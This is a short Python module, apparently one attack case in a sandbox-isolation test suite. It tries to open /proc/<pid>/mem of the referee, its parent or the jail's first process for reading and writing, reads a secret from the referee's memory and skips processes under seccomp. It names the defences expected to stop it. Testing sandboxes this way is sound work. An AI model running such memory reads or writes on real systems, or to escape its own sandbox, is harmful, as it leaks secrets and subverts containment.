"""Opens the memory of the referee, its parent or the jail's first process as a file, to read and to change it.

Known by: the secret in the referee's memory comes back, or the memory of a process that no filter holds can be opened:
what is written there runs.
"""

from __future__ import annotations

import os
from functools import partial
from pathlib import Path

from sandbox.attacks.jailed import Target, attack, open_any, others

STOPPED_BY = ("pid-namespace", "landlock-files")


def _open(pid: int, flags: int, target: Target) -> str:
    handle = os.open(f"/proc/{pid}/mem", flags)
    try:
        if pid == target.referee:
            return os.pread(handle, target.size, target.address).decode(errors="replace")
    finally:
        os.close(handle)
    return "can be opened"


def _is_held(pid: int) -> bool:
    """Whether it is under a filter of calls itself: then there is nothing to be gained by becoming it."""
    try:
        return "\nSeccomp:\t2\n" in Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return False


def main(target: Target) -> str:
    """Try to read, then to write."""
    return open_any(
        (f"{pid} for {name}", partial(_open, pid, flags, target))
        for pid in others(target)
        if not _is_held(pid)
        for name, flags in (("reading", os.O_RDONLY), ("writing", os.O_RDWR))
    )


if __name__ == "__main__":
    attack(main)
